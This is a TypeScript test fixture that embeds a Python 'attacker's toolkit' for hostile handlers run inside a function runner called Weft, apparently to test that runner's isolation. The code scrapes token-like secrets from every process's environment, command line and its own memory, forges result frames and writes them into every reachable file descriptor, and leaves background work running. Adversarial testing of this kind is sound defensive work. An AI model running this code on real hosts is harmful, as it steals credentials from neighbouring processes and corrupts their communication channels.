// The attacker's toolkit in Python, prepended to the hostile handlers: written by someone who has read
// Weft's runner, agent and driver. It finds every process and fd it can reach, every string that could be a
// frame token (environment blocks, command lines, its own memory), sprays forged lines down every route,
// probes other processes, and leaves work running behind its answer.
export const PY_KIT = String.raw`
import ctypes, errno, gc, json, os, re, signal, sys, threading, time

LIBC = ctypes.CDLL(None, use_errno=True)
TOKENISH = re.compile(rb"[0-9A-Za-z_+/=-]{16,128}")
HEXRUN = re.compile(rb"(?<![0-9a-f])[0-9a-f]{16,64}(?![0-9a-f])")
RUN_IDS = [str(i) for i in range(1, 9)]


def err_name(e):
    return errno.errorcode.get(getattr(e, "errno", None) or 0, type(e).__name__)


def pids():
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())


def status_of(pid):
    out = {}
    try:
        with open("/proc/%s/status" % pid) as f:
            for line in f:
                k, _, v = line.partition(":")
                out[k] = v.strip()
    except OSError:
        pass
    return out


def parent_of(pid):
    try:
        return int(status_of(pid).get("PPid", "0") or 0)
    except ValueError:
        return 0


def ancestors():
    seen, pid = set(), os.getpid()
    while pid > 0 and pid not in seen:
        seen.add(pid)
        pid = parent_of(pid)
    return seen


def descendants():
    me = os.getpid()
    parent = {p: parent_of(p) for p in pids()}
    out = set()
    for p in parent:
        q, hops = parent.get(p, 0), 0
        while q and hops < 256:
            if q == me:
                out.add(p)
                break
            q, hops = parent.get(q, 0), hops + 1
    return out


def others():
    """Every process in the container that is neither this one nor one it started."""
    mine = descendants() | {os.getpid()}
    return [p for p in pids() if p not in mine]


def leftovers():
    """Live processes of this uid that are not this one, its ancestors or pid 1: work an earlier call left."""
    keep, uid, out = ancestors() | {1}, os.getuid(), []
    for p in pids():
        if p in keep:
            continue
        st = status_of(p)
        if not st or st.get("State", "").startswith("Z"):
            continue
        if st.get("Uid", "-1").split()[0] != str(uid):
            continue
        out.append({"pid": p, "name": st.get("Name")})
    return out


def env_tokens():
    """Values in every readable environment block and command line that look like a token."""
    found = []
    for p in ["self", "thread-self"] + [str(x) for x in pids()]:
        for leaf in ("environ", "cmdline"):
            try:
                with open("/proc/%s/%s" % (p, leaf), "rb") as f:
                    data = f.read()
            except OSError:
                continue
            for part in data.split(b"\0"):
                value = part.partition(b"=")[2] if leaf == "environ" else part
                if TOKENISH.fullmatch(value):
                    found.append(value)
    for value in os.environ.values():
        if TOKENISH.fullmatch(value.encode()):
            found.append(value.encode())
    return found


def memory_tokens(limit=48, budget=128 << 20):
    """Hex runs in this process's own memory and in the runner's module globals."""
    found = []
    main = sys.modules.get("__main__")
    for value in (vars(main).values() if main else []):
        if isinstance(value, str):
            value = value.encode()
        if isinstance(value, bytes) and TOKENISH.fullmatch(value):
            found.append(value)
    try:
        with open("/proc/self/maps") as f:
            maps = f.read().splitlines()
        mem = open("/proc/self/mem", "rb", 0)
    except OSError:
        return found
    with mem:
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("r") or (len(parts) > 5 and parts[5] in ("[vvar]", "[vsyscall]")):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > min(budget, 64 << 20):
                continue
            try:
                mem.seek(lo)
                chunk = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            budget -= hi - lo
            for m in HEXRUN.finditer(chunk or b""):
                found.append(m.group())
                if len(found) >= limit:
                    return found
    return found


def unique(xs, limit=64):
    out, seen = [], set()
    for x in xs:
        if x not in seen:
            seen.add(x)
            out.append(x)
    return out[:limit]


def frame_lines(frames, tokens):
    """Each frame bare and behind every candidate token, one line each."""
    lines = []
    for frame in frames:
        body = frame.encode() if isinstance(frame, str) else frame
        lines.append(body + b"\n")
        for t in tokens:
            lines.append(t + b" " + body + b"\n")
    return b"".join(lines)


def write_all(fd, data):
    view = memoryview(data)
    while view:
        n = os.write(fd, view)
        view = view[n:]


def own_fds():
    return sorted(int(fd) for fd in os.listdir("/proc/self/fd"))


def plumbing():
    """This process's own fds that lead nowhere but back into it (epoll, eventfd, a pipe it holds both ends
    of): writing there only breaks the attacker, so it spares them."""
    ends = {}
    spare = set()
    for fd in own_fds():
        try:
            target = os.readlink("/proc/self/fd/%d" % fd)
            with open("/proc/self/fdinfo/%d" % fd) as f:
                flags = int(re.search(r"flags:\s*(\d+)", f.read()).group(1), 8)
        except (OSError, AttributeError):
            continue
        if target.startswith("anon_inode:"):
            spare.add(fd)
        elif target.startswith("pipe:"):
            ends.setdefault(target, {}).setdefault(flags & 3, []).append(fd)
    for modes in ends.values():
        if 0 in modes and 1 in modes:
            spare.update(fd for fds in modes.values() for fd in fds)
    return spare


def fd_paths(spare=()):
    """/proc/<pid>/fd/<n> for every process and fd this code can list, plus the /dev aliases."""
    paths = ["/dev/stdout", "/dev/stderr", "/dev/stdin", "/dev/console", "/dev/tty"]
    me = os.getpid()
    for p in pids():
        try:
            fds = os.listdir("/proc/%d/fd" % p)
        except OSError:
            continue
        paths.extend("/proc/%d/fd/%s" % (p, fd) for fd in fds if not (p == me and int(fd) in spare))
    return paths


def spray(data, fds=None, paths=None):
    """Writes data down every route (its own plumbing spared); says what each route did."""
    report = {}
    spare = plumbing()
    if paths is None:
        paths = fd_paths(spare)
    for fd in ([fd for fd in own_fds() if fd not in spare] if fds is None else fds):
        try:
            write_all(fd, data)
            report["fd %d" % fd] = "written"
        except OSError as e:
            report["fd %d" % fd] = err_name(e)
    for path in paths:
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
        except OSError as e:
            report[path] = err_name(e)
            continue
        try:
            write_all(fd, data)
            report[path] = "written"
        except OSError as e:
            report[path] = err_name(e)
        finally:
            os.close(fd)
    return report


def forged_frames(ids, malformed=False):
    out = []
    for rid in ids:
        rid = json.dumps(rid)
        out.append('{"t":"end","id":%s}' % rid)
        out.append('{"t":"result","id":%s,"ok":true,"output":{"forged":"FORGED-BY-HANDLER"},"logs":"","logsTruncated":false}' % rid)
    return out


def run_ids(context):
    return RUN_IDS + [context.invocation_id]


CALLS = {"n": 0}
TICKS = []
LEAK_LOG = "/tmp/leak.log"


def tick():
    """One unit of leaked work: a timestamp in memory and in /tmp, and a line on stderr."""
    now = time.time() * 1000
    TICKS.append(now)
    try:
        with open(LEAK_LOG, "a") as f:
            f.write("%f\n" % now)
    except OSError:
        pass
    try:
        os.write(2, b"LEAKED-WORK\n")
    except OSError:
        pass


def spin_for(seconds):
    end = time.time() + seconds
    while time.time() < end:
        pass


def spin_ticks(busy_ms=4):
    while True:
        tick()
        end = time.time() + busy_ms / 1000.0
        while time.time() < end:
            pass


def leak_probe(after_ms):
    """What ran after the previous answer: ticks in memory and in /tmp, and live leftover processes."""
    try:
        with open(LEAK_LOG) as f:
            file_ticks = [float(x) for x in f.read().split() if x]
    except (OSError, ValueError):
        file_ticks = []
    return {
        "memoryTicksAfter": len([t for t in TICKS if t > after_ms]),
        "fileTicksAfter": len([t for t in file_ticks if t > after_ms]),
        "leftovers": leftovers(),
        "threads": len(os.listdir("/proc/self/task")),
        "hijack": HIJACK.get("at"),
    }


HIJACK = {}


def container_id():
    try:
        with open("/proc/self/cgroup") as f:
            m = re.search(r"[0-9a-f]{64}", f.read())
        return m.group(0) if m else None
    except OSError:
        return None
`;

/** A Python handler: the kit, then `body` as the handler's body (indented for you). */
export const pyHandler = (body: string, preamble = ""): string =>
  `${PY_KIT}\n${preamble}\n\ndef handler(event, context):\n    CALLS["n"] += 1\n${body.replace(/^/gm, "    ")}\n`;
